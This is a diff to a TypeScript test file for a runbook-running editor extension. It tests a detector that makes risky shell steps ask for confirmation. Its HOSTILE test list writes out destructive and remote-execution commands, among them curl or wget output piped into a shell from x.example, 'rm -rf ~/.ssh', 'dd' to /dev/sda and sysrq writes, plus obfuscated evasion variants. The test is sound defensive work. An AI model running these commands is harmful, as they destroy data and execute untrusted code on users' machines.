@@ -3,7 +3,7 @@ import { execFileSync } from 'node:child_process';
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import test from 'node:test';
-import { confirmation, declaresRunbook, lensesForBlocks, terminalText, usesSudoItself, type RunnableBlock } from '../../src/extension/model/runbook';
+import { commandRisks, confirmation, declaresRunbook, isShippedRunbookPath, lensesForBlocks, terminalText, usesSudoItself, type RunnableBlock } from '../../src/extension/model/runbook';
 import { runnableBlocks } from '../../src/extension/lazy';
 import { ROOT } from '../helpers/system';
 
@@ -46,17 +46,17 @@ test('terminal text: the block as written; with sudo one `sudo -- sh -c` whose q
   assert.equal(direct, "IT'S SET\nsingle double $literal\n3 tick\n");
 });
 
-test('confirmation names the guest and the reason; read-only steps run without asking', () => {
-  assert.equal(confirmation(block(), 'db01', false), null);
-  const root = confirmation(block({ root: true }), 'db01', true);
+test('confirmation names the guest and the reason; read-only steps of shipped runbooks run without asking', () => {
+  assert.equal(confirmation(block(), 'db01', false, 'shipped'), null);
+  const root = confirmation(block({ root: true }), 'db01', true, 'shipped');
   assert.ok(root);
   assert.match(root.message, /db01/);
   assert.match(root.message, /runs as root/);
   assert.match(root.detail, /^sudo -- sh -c /);
-  const mutates = confirmation(block({ mutates: true, code: 'swapon /swapfile' }), 'This machine', false);
+  const mutates = confirmation(block({ mutates: true, code: 'swapon /swapfile' }), 'This machine', false, 'shipped');
   assert.match(mutates?.message ?? '', /This machine.*changes the state/);
   assert.equal(mutates?.detail, 'swapon /swapfile');
-  assert.ok(confirmation(block(), 'x', true), 'running anything with sudo asks first');
+  assert.ok(confirmation(block(), 'x', true, 'shipped'), 'running anything with sudo asks first');
 });
 
 test('workspace Markdown is a runbook only with runbook: true in its front matter', () => {
@@ -126,4 +126,136 @@ test('the shipped runbooks (knowledge/runbooks) hold the same invariants', () =>
     const text = readFileSync(join(dir, name), 'utf8');
     assert.ok(checkRunbook(name, text) > 0, `${name} has no runnable block`);
   }
+});
+
+// ---- issue 9 item 7: one-click steps from workspace runbooks ----
+
+/** Commands that must ask whatever the block's attributes say, with a reason each must give. */
+const HOSTILE: [string, RegExp][] = [
+  ["sudo sh -c 'echo 3 > /proc/sys/vm/drop_caches'; curl -s https://x.example/i | sh; rm -rf ~/.ssh", /calls sudo/],
+  ["sudo sh -c 'echo 3 > /proc/sys/vm/drop_caches'", /writes to \/proc\/sys/],
+  ['curl -s https://x.example/i | sh', /pipes into a shell/],
+  ['wget -qO- https://x.example/i|bash -s -- --yes', /pipes into a shell/],
+  ['curl https://x.example/i | sudo bash', /pipes into a shell/],
+  ['bash <(curl -s https://x.example/i)', /runs a shell on a script/],
+  ['sudo reboot', /calls reboot/],
+  ['cat /proc/meminfo; rm -rf ~/.ssh', /calls rm/],
+  ['true && rm -rf /tmp/x', /calls rm/],
+  ['false || rm x', /calls rm/],
+  ['echo $(rm -rf x)', /calls rm/],
+  ['echo "$(sudo id)"', /calls sudo/],
+  ['echo `reboot`', /calls reboot/],
+  ['grep x /proc/meminfo\nshutdown -h now', /calls shutdown/],
+  ['cat x &\nhalt', /calls halt/],
+  ['poweroff', /calls poweroff/],
+  ['s\\udo id', /calls sudo/],
+  ["'sudo' id", /calls sudo/],
+  ['"r"m -f x', /calls rm/],
+  ['sudo${IFS}reboot', /calls sudo/],
+  ['/usr/bin/sudo -u root -- /sbin/reboot', /calls reboot/],
+  ['env FOO=1 rm x', /calls rm/],
+  ['X=1 dd if=/dev/zero of=/dev/sda', /calls dd/],
+  ['nohup nice -n 5 timeout 10 rm x', /calls rm/],
+  ['find / -name x -exec rm {} \\;', /calls rm/],
+  ['find /tmp -delete', /deletes files/],
+  ['ls | xargs -I {} rm {}', /calls rm/],
+  ['su -c id root', /calls su/],
+  ['doas reboot', /calls doas/],
+  ['mkswap /swapfile && swapon /swapfile', /calls mkswap/],
+  ['swapon -a', /calls swapon/],
+  ['sysctl -w vm.swappiness=1', /sysctl/],
+  ['sysctl vm.swappiness=1', /sysctl/],
+  ['echo 1 >/proc/sys/vm/overcommit_memory', /writes to \/proc\/sys/],
+  ['echo 1>>/proc/sys/vm/x', /writes to \/proc\/sys/],
+  ['echo 1 | tee /proc/sys/vm/drop_caches', /writes to \/proc\/sys/],
+  ['echo c > /proc/sysrq-trigger', /writes to \/proc/],
+  ['echo 1 > /sys/devices/system/memory/memory32/online', /writes to \/sys/],
+  ['systemctl reboot', /calls systemctl reboot/],
+  ['X=sudo; $X reboot', /named by a variable/],
+  ["$'\\x73udo' reboot", /named by a variable/],
+  ['eval "rm -rf x"', /calls rm/],
+  ["bash -c 'rm -rf x'", /calls rm/],
+  ['sh -ec "reboot"', /calls reboot/],
+  ['{ rm x; }', /calls rm/],
+  ['(cd /tmp && rm x)', /calls rm/],
+  ['{sudo,id}', /calls sudo/],
+  ['cat <<EOF | sh\nid\nEOF', /pipes into a shell/],
+  ['. <(curl -s https://x.example/i)', /runs a script/],
+  ['cat x |& bash', /pipes into a shell/],
+  ['watch -n 1 "rm x"', /calls rm/],
+  ['busybox rm x', /calls rm/],
+];
+
+/** Read-only commands like the shipped runbooks' own: no reason to ask. */
+const HARMLESS = [
+  'grep -i balloon /proc/meminfo',
+  "awk '$1 == \"SwapTotal:\" { if ($2 > 0) print \"guest swap:\", int($2 / 1024), \"MiB\"; else print \"guest swap: none\" }' /proc/meminfo",
+  "grep -E 'rm|sudo|reboot' /var/log/messages 2>/dev/null || echo none",
+  'echo "uptime: $(cat /proc/uptime)" > report.txt',
+  'systemd-detect-virt --vm || true',
+  'for dev in /sys/bus/virtio/devices/*; do cat "$dev/features"; done',
+  'cat /sys/kernel/mm/transparent_hugepage/enabled 2>&1 >/dev/null',
+  "echo 'sudo reboot' # only text",
+  'sysctl vm.swappiness',
+  'ls -l /dev/null >/dev/null',
+];
+
+test('commandRisks: every hostile command asks, with its reason', () => {
+  for (const [code, reason] of HOSTILE) {
+    const risks = commandRisks(code);
+    assert.ok(risks.some((risk) => reason.test(risk)), `${JSON.stringify(code)} → ${JSON.stringify(risks)}`);
+  }
+});
+
+test('commandRisks: read-only commands (awk programs, grep patterns naming rm, redirects to files) raise nothing', () => {
+  for (const code of HARMLESS) assert.deepEqual(commandRisks(code), [], code);
+});
+
+test('commandRisks never throws on garbage (unclosed quotes, substitutions, deep nesting)', () => {
+  for (const code of ["echo 'open", 'echo "$(', 'echo `', '$((1+', '${', '\\', '$('.repeat(500) + 'rm x' + ')'.repeat(500), '\0\u0001|;&']) {
+    assert.doesNotThrow(() => commandRisks(code), JSON.stringify(code.slice(0, 40)));
+  }
+  assert.ok(commandRisks('$('.repeat(500) + 'rm x' + ')'.repeat(500)).length > 0, 'deep nesting asks');
+});
+
+test('a workspace runbook step always asks and shows the command; hostile steps ask whatever their attributes say', () => {
+  const workspace = `---\nrunbook: true\n---\n\n\`\`\`sh {"mutates":false}\nsudo sh -c 'echo 3 > /proc/sys/vm/drop_caches'; curl -s https://x.example/i | sh; rm -rf ~/.ssh\n\`\`\`\n\n\`\`\`sh { name=y mutates=false }\nsudo reboot\n\`\`\`\n\n\`\`\`sh {"root":false,"mutates":false}\ngrep -i balloon /proc/meminfo\n\`\`\`\n`;
+  const blocks = runnableBlocks(workspace);
+  assert.deepEqual(blocks.map((found) => [found.root, found.mutates]), [[false, false], [false, false], [false, false]], 'the attributes claim harmless steps');
+  for (const found of blocks) {
+    const question = confirmation(found, 'db01', false, 'workspace');
+    assert.ok(question, `${found.name} ran without asking`);
+    assert.equal(question.detail, found.code, 'the question shows the exact command');
+    assert.match(question.message, /does not ship/);
+  }
+  // The same hostile steps in a shipped runbook still ask: their commands say so.
+  const [drop, reboot, look] = blocks.map((found) => confirmation(found, 'db01', false, 'shipped'));
+  for (const reason of [/calls sudo/, /writes to \/proc\/sys/, /pipes into a shell/, /calls rm/]) assert.match(drop?.message ?? '', reason);
+  assert.match(reboot?.message ?? '', /calls sudo and calls reboot/);
+  assert.equal(look, null);
+  const lenses = lensesForBlocks(blocks, 'db01', true, 'workspace');
+  assert.ok(lenses.filter((lens) => lens.command === 'balloonInspector.runBlock').every((lens) => /asks first: .*not a runbook Balloon Inspector ships/.test(lens.tooltip)));
+});
+
+test('the shipped runbooks keep their behaviour: read-only, non-root steps raise no risk and run at once', () => {
+  const dir = join(ROOT, 'knowledge', 'runbooks');
+  let readOnly = 0;
+  for (const name of readdirSync(dir).filter((file) => file.endsWith('.md') && file !== 'README.md')) {
+    for (const found of runnableBlocks(readFileSync(join(dir, name), 'utf8'))) {
+      if (found.root || found.mutates) continue;
+      readOnly++;
+      assert.deepEqual(commandRisks(found.code), [], `${name} ${found.name}`);
+      assert.equal(confirmation(found, 'g', false, 'shipped'), null, `${name} ${found.name}`);
+    }
+  }
+  assert.ok(readOnly > 5, `only ${readOnly} read-only steps found`);
+});
+
+test('only Markdown inside the extension\'s own knowledge/runbooks is shipped', () => {
+  assert.equal(isShippedRunbookPath('/ext/knowledge/runbooks/fix-and-verify.md', '/ext'), true);
+  assert.equal(isShippedRunbookPath('/ext/knowledge/runbooks/sub/x.md', '/ext'), true);
+  assert.equal(isShippedRunbookPath('/ext/knowledge/runbooks/../../work/x.md', '/ext'), false);
+  assert.equal(isShippedRunbookPath('/ext/knowledge/runbooks-evil/x.md', '/ext'), false);
+  assert.equal(isShippedRunbookPath('/work/knowledge/runbooks/x.md', '/ext'), false);
+  assert.equal(isShippedRunbookPath('/ext/knowledge/runbooks', '/ext'), false);
 });
